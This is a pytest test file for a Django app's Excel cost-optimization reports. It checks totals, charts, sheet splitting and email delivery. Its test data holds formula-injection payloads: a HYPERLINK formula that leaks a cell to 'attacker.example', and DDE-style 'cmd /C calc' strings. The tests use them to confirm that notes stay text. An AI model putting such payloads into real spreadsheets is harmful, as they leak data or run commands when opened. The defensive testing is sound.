"""The Excel report of a session the real pipeline ran, reopened with openpyxl: every cell is the stored figure and
the sums match the stored totals; user text never becomes a formula."""
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.core import mail
from openpyxl import load_workbook

from carrieropt.models import Tenant
from devices.models import Customer, Device
from optimizer.models import CommGroup, DeviceAssignment, KeptReason
from optimizer.selectors import plan_costs
from rateplans.models import RatePlan
from sessions import reports
from sessions.reports import XLSX_MIME, report_email, report_name, report_open, report_write

EVIL_NOTES = {
    0: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    1: "+cmd|' /C calc'!A0",
    2: "@SUM(1+1)*cmd|' /C calc'!A0",
    3: "-2+3",
    4: "\t=1+1",
    5: "\r=1+1",
}


def _money(value) -> Decimal:
    """A cell's number back as the stored 4-place Decimal (floats of 4-place values round-trip through str)."""
    return Decimal(str(value)).quantize(Decimal("0.0001"))


def _sum(values) -> Decimal:
    return sum((_money(v) for v in values), Decimal(0))


def _sheet_rows(workbook, prefix: str) -> list[tuple]:
    rows = []
    for ws in workbook.worksheets:
        if ws.title.startswith(prefix):
            rows += list(ws.iter_rows(min_row=2, values_only=True))
    return rows


def _summary(workbook) -> dict:
    return {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row and row[0]}


def test_m2m_report_sums_match_the_stored_totals_to_the_cent(completed_session, provider_a):
    session = completed_session(provider=provider_a, groups=3, sims_per_group=17, seed=5)
    name = report_write(session=session)
    assert name == reports.report_name(session=session) == f"device_assignments_{session.guid}.xlsx"

    wb = load_workbook(report_open(name))
    assert wb.sheetnames == ["Summary", "Groups", "Assignments", "Savings vs changes"]
    header = next(wb["Assignments"].iter_rows(max_row=1, values_only=True))
    assert list(header) == reports.ASSIGNMENT_HEADER
    rows = _sheet_rows(wb, "Assignments")
    assert len(rows) == 51 == session.device_count
    assert [r[0] for r in rows] == sorted(r[0] for r in rows), "M2M: one row per SIM, by ICCID"
    assert _sum(r[5] for r in rows) == _money(session.current_cost)
    assert _sum(r[6] for r in rows) == _money(session.optimized_cost)
    assert _sum(r[7] for r in rows) == _money(session.savings)
    assert {r[8] for r in rows} == {"yes", "no"}
    stored = {a.iccid: a for a in session.run.assignments.all()}
    assert set(stored) == {r[0] for r in rows}
    for r in rows:
        assert (_money(r[5]), _money(r[6])) == (stored[r[0]].current_cost, stored[r[0]].recommended_cost), r[0]
        assert r[8] == ("yes" if stored[r[0]].changed else "no"), r[0]

    groups = list(wb["Groups"].iter_rows(min_row=2, values_only=True))
    total = groups[-1]
    assert total[0] == "Total" and total[4] == 51
    assert _money(total[5]) == _money(session.current_cost)
    assert _money(total[7]) == _money(session.optimized_cost)
    assert _sum(g[7] for g in groups[:-1]) == _money(session.optimized_cost)

    summary = _summary(wb)
    assert summary["Tenant"] == provider_a.tenant.name and summary["Carrier account"] == provider_a.name
    assert summary["SIMs"] == 51
    assert _money(summary["Current cost"]) == _money(session.current_cost)
    assert _money(summary["Optimized cost"]) == _money(session.optimized_cost)
    assert _money(summary["Savings"]) == _money(session.savings)
    assert _money(summary["Lower bound"]) == _money(session.lower_bound)
    assert abs(summary["Gap (optimized above bound)"] - float(session.gap)) < 1e-9
    assert abs(summary["Savings %"] - float(session.savings / session.current_cost)) < 1e-9
    assert summary["Method"].startswith("Certified")
    assert summary["Stage start (seconds)"] == session.stage_timings["start"]["seconds"]
    assert summary["Session"] == str(session.guid)


def test_summary_has_a_bar_chart_of_cost_per_plan_before_and_after(completed_session, provider_a):
    session = completed_session(provider=provider_a, groups=2, sims_per_group=5)
    run = session.run
    name = report_write(session=session)
    with zipfile.ZipFile(report_open(name)) as archive:
        charts = sorted(n for n in archive.namelist() if n.startswith("xl/charts/chart"))
        assert len(charts) == 2, "the summary's bar chart and the savings-versus-changes line chart"
        parsed = [ElementTree.fromstring(archive.read(c)) for c in charts]  # noqa: S314 — a file this test just wrote
    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
    chart = next(c for c in parsed if c.find(".//c:barChart", ns) is not None)
    line = next(c for c in parsed if c.find(".//c:lineChart", ns) is not None)
    assert len(line.findall(".//c:lineChart/c:ser", ns)) == 2
    bar = chart.find(".//c:barChart", ns)
    assert bar is not None and len(bar.findall("c:ser", ns)) == 2
    refs = [f.text for f in bar.findall(".//c:val//c:f", ns)]
    assert refs and all(r.startswith("'Summary'!") or r.startswith("Summary!") for r in refs), refs

    costs = plan_costs(run=run)
    wb = load_workbook(report_open(name))
    table = {row[0]: row for row in wb["Summary"].iter_rows(values_only=True) if row and row[0] in {c.code for c in costs}}
    for c in costs:
        assert table[c.code][1] == c.sims_before and table[c.code][3] == c.sims_after
        assert _money(table[c.code][4]) == _money(c.cost_after)
    assert _sum(c.cost_after for c in costs) == _money(session.optimized_cost)


def test_a_formula_looking_device_note_stays_text(completed_session, provider_a):
    session = completed_session(provider=provider_a, groups=1, sims_per_group=8, notes=EVIL_NOTES)
    report = report_write(session=session)
    wb = load_workbook(report_open(report))
    ws = wb["Assignments"]
    notes_col = reports.ASSIGNMENT_HEADER.index("Notes") + 1
    seen = {}
    for (cell,) in ws.iter_rows(min_row=2, min_col=notes_col, max_col=notes_col):
        if cell.value:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.quotePrefix, "Excel is told the cell is typed text"
            seen[cell.value] = cell
    # Without lxml openpyxl writes a bare CR, which XML parsing reads back as LF; with lxml it is escaped
    # and kept. Either way the text is otherwise kept exactly.
    def unify(notes):
        return {n.replace("\r", "\n") for n in notes}

    assert unify(seen) == unify(EVIL_NOTES.values()), "every note kept, as text"
    with zipfile.ZipFile(report_open(report)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), f"a formula in {name}"


def test_illegal_control_characters_in_text_do_not_break_the_report(completed_session, provider_a):
    session = completed_session(provider=provider_a, groups=1, sims_per_group=2, notes={0: "bell\x07 and escape\x1b"})
    wb = load_workbook(report_open(report_write(session=session)))
    notes = [r[9] for r in _sheet_rows(wb, "Assignments") if r[9]]
    assert notes == ["bell and escape"]


def test_mobility_accounts_get_the_group_level_layout(completed_session, provider_a):
    provider_a.portal_type = "Mobility"
    provider_a.save()
    session = completed_session(provider=provider_a, groups=3, sims_per_group=4, seed=9)
    wb = load_workbook(report_open(report_write(session=session)))
    assert wb.sheetnames == ["Summary", "Groups", "Assignments by group", "Savings vs changes"]
    rows = _sheet_rows(wb, "Assignments by group")
    sims = [r for r in rows if r[1] and not str(r[0]).endswith("subtotal")]
    subtotals = [r for r in rows if str(r[0]).endswith("subtotal")]
    assert len(sims) == 12 and [s[0] for s in subtotals] == ["G1 subtotal", "G2 subtotal", "G3 subtotal"]
    assert _sum(r[6] for r in sims) == _money(session.optimized_cost)
    groups = {g.name: g for g in session.run.comm_groups.all()}
    for sub in subtotals:
        group = groups[sub[0].removesuffix(" subtotal")]
        assert _money(sub[5]) == _money(group.current_cost) and _money(sub[6]) == _money(group.optimized_cost)
        assert sub[1] == "4 SIMs"
    # Rows of one group sit together, right above their subtotal.
    order = [r[0] for r in rows]
    assert order.index("G1 subtotal") == 4 and order[:4] == ["G1"] * 4


def test_rows_beyond_the_sheet_limit_continue_on_the_next_sheet(completed_session, provider_a, monkeypatch):
    assert reports.ROWS_PER_SHEET + 1 == 1_048_576, "Excel's limit, one header row per sheet"
    # The same logic at a size a test can afford.
    monkeypatch.setattr(reports, "ROWS_PER_SHEET", 5)
    session = completed_session(provider=provider_a, groups=2, sims_per_group=6)
    wb = load_workbook(report_open(report_write(session=session)))
    assert wb.sheetnames == ["Summary", "Groups", "Assignments", "Assignments 2", "Assignments 3", "Savings vs changes"]
    assert [wb[n].max_row for n in ("Assignments", "Assignments 2", "Assignments 3")] == [6, 6, 3]
    rows = _sheet_rows(wb, "Assignments")
    assert len(rows) == 12 and len({r[0] for r in rows}) == 12
    assert _sum(r[6] for r in rows) == _money(session.optimized_cost)
    assert all(next(wb[n].iter_rows(max_row=1, values_only=True))[0] == "ICCID" for n in wb.sheetnames[2:-1])


def test_a_full_last_sheet_does_not_leave_an_empty_one(completed_session, provider_a, monkeypatch):
    monkeypatch.setattr(reports, "ROWS_PER_SHEET", 4)
    session = completed_session(provider=provider_a, groups=1, sims_per_group=8)
    wb = load_workbook(report_open(report_write(session=session)))
    assert wb.sheetnames[2:] == ["Assignments", "Assignments 2", "Savings vs changes"]


def test_a_session_without_assignments_still_gets_a_report(completed_session, provider_a):
    session = completed_session(provider=provider_a, groups=0)
    wb = load_workbook(report_open(report_write(session=session)))
    assert wb["Assignments"].max_row == 1


def test_rewriting_replaces_the_report_in_place(completed_session, provider_a, tmp_path):
    session = completed_session(provider=provider_a, groups=1, sims_per_group=2)
    first = report_write(session=session)
    second = report_write(session=session)
    folder = tmp_path / "reports"
    assert first == second and [p.name for p in folder.iterdir()] == [first]
    assert (folder / first).stat().st_mode & 0o777 == 0o644, "readable by the web process, not only the worker"


def test_report_email_goes_to_recipients_and_ops_with_the_attachment(completed_session, provider_a, settings):
    settings.OPS_EMAILS = ["ops@carrieropt.example", "ops@example.com"]
    provider_a.report_recipients = "fleet@alice.example, ops@example.com"
    provider_a.save()
    session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
    name = report_write(session=session)
    assert report_email(session=session, name=name) == 1
    (message,) = mail.outbox
    assert message.to == ["fleet@alice.example", "ops@example.com", "ops@carrieropt.example"]
    end = session.billing_period.end_date
    assert message.subject == f"Optimization Results for Billing Period Ending on {end:%B} {end.day}, {end.year}"
    for text in ("Start time:", "End time:", "Last device sync: never", "Last usage sync: never",
                 "Total SIM cards: 3", str(session.guid)):
        assert text in message.body
    (name, content, mimetype), = message.attachments
    assert name == report_name(session=session) and mimetype == XLSX_MIME and content == report_open(name).read()


def test_a_report_too_large_to_attach_is_linked_instead(completed_session, provider_a, settings):
    """A million-SIM workbook (~55 MB) would make a message mail servers refuse: the e-mail links to the session."""
    settings.SITE_URL = "https://opt.example.com/"
    provider_a.report_recipients = "fleet@alice.example"
    provider_a.save()
    session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
    name = report_write(session=session)
    size = reports.reports_storage().size(name)
    settings.REPORT_EMAIL_ATTACH_MAX_MB = (size - 1) / 1_000_000
    assert report_email(session=session, name=name) == 1
    (message,) = mail.outbox
    assert message.attachments == []
    assert f"https://opt.example.com/sessions/{session.guid}/" in message.body
    assert f"{report_name(session=session)}, {size / 1e6:,.1f} MB) are too large to attach" in message.body
    settings.REPORT_EMAIL_ATTACH_MAX_MB = size / 1_000_000  # exactly the limit: attached
    assert report_email(session=session, name=name) == 1
    assert len(mail.outbox[1].attachments) == 1 and "are attached" in mail.outbox[1].body


def test_report_email_without_recipients_sends_nothing(completed_session, provider_a, settings):
    settings.OPS_EMAILS = []
    provider_a.report_recipients = ""
    provider_a.save()
    session = completed_session(provider=provider_a, groups=1, sims_per_group=1)
    assert report_email(session=session, name=report_write(session=session)) == 0
    assert mail.outbox == []


HOSTILE_NOTES = {
    0: "tab\there, newline\nthere, a backslash \\ and a literal \\n",
    1: "  leading and trailing spaces  ",
    2: "=1+1",
    3: "<b>&amp; \"quoted\" 'single'</b>",
    4: "bell\x07 vertical\x0b tab, form\x0c feed",
    5: "\u00a0no-break space, emoji 📡, and \u3000 ideographic space\u2028",
}


def _sheet_xml(name: str) -> bytes:
    with zipfile.ZipFile(report_open(name)) as archive:
        return archive.read("xl/worksheets/sheet3.xml")


@pytest.mark.postgres
def test_rows_written_by_postgresql_are_the_bytes_written_here(completed_session, provider_a):
    """The M2M SIM rows PostgreSQL writes (a million in seconds) are, to the byte, the rows written here: text a
    user or the carrier typed (notes, group, plan and customer names) included, however hostile."""
    session = completed_session(provider=provider_a, groups=2, sims_per_group=6, notes=HOSTILE_NOTES)
    rows = DeviceAssignment.objects.filter(run=session.run).order_by("iccid")
    groups = list(session.run.comm_groups.order_by("pk"))
    groups[0].name, groups[1].name = "@group & <co>", " spaced\tgroup\\"
    CommGroup.objects.bulk_update(groups, ["name"])
    plan = RatePlan.objects.get(pk=rows[0].recommended_plan_id)
    plan.code = "-PLAN<1>"
    plan.save(update_fields=["code"])
    evil = Customer.objects.create(tenant=provider_a.tenant, name="+Customer \"&\" co\\")
    rows.filter(pk__in=[r.pk for r in rows[:3]]).update(customer=evil)
    rows.filter(pk=rows[3].pk).update(kept_reason=KeptReason.PINNED)
    rows.filter(pk=rows[4].pk).update(kept_reason="mystery")  # no label: its code, as the rows written here
    rows.filter(pk=rows[5].pk).update(current_plan=None, current_cost=None)
    Device.objects.filter(pk=rows[6].device_id).update(iccid="8901-odd ICCID")
    rows.filter(pk=rows[6].pk).update(iccid="8901-odd ICCID")

    assert reports._DatabaseRows.prepare(session.run) is not None  # the database writes these rows
    by_database = _sheet_xml(report_write(session=session))
    here = _sheet_xml(report_write(session=session, rows_by_database=False))
    assert by_database == here
    for text in (b"tab\there, newline\nthere, a backslash \\ and a literal \\n", b"@group &amp; &lt;co&gt;",
                 b"-PLAN&lt;1&gt;", b"8901-odd ICCID", b"mystery", "📡".encode()):
        assert text in here, text
    assert here.count(b"</row>") == 1 + rows.count()  # the header and every SIM


@pytest.mark.postgres
@pytest.mark.parametrize("iccid", ["\x01", " "])
def test_rows_by_postgresql_for_an_iccid_that_cleans_to_no_text_or_a_space(completed_session, provider_a, iccid):
    """Text that cleans to nothing has no cell on either path (and the sheet stays well-formed XML)."""
    session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
    rows = DeviceAssignment.objects.filter(run=session.run).order_by("iccid")
    Device.objects.filter(pk=rows[0].device_id).update(iccid=iccid)
    rows.filter(pk=rows[0].pk).update(iccid=iccid)
    assert reports._DatabaseRows.prepare(session.run) is not None
    by_database = _sheet_xml(report_write(session=session))
    here = _sheet_xml(report_write(session=session, rows_by_database=False))
    ElementTree.fromstring(by_database)  # noqa: S314 - our own file
    assert by_database == here


@pytest.mark.postgres
def test_rows_by_postgresql_name_a_customer_of_another_tenant(completed_session, provider_a):
    session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
    other = Tenant.objects.create(name="Other tenant", slug="other-tenant")
    stranger = Customer.objects.create(tenant=other, name="Stranger Co")
    rows = DeviceAssignment.objects.filter(run=session.run).order_by("iccid")
    rows.filter(pk=rows[0].pk).update(customer=stranger)
    by_database = _sheet_xml(report_write(session=session))
    assert by_database == _sheet_xml(report_write(session=session, rows_by_database=False))
    assert b"Stranger Co" in by_database


@pytest.mark.postgres
def test_a_database_failure_writing_the_rows_leaves_them_to_this_process(completed_session, provider_a, monkeypatch):
    """The rows the database did not write are written here: the report is still whole."""
    session = completed_session(provider=provider_a, groups=1, sims_per_group=3)
    expected = _sheet_xml(report_write(session=session, rows_by_database=False))
    monkeypatch.setattr(reports, "_ROWS_SQL", "SELECT no_such_column FROM optimizer_deviceassignment")
    assert _sheet_xml(report_write(session=session)) == expected
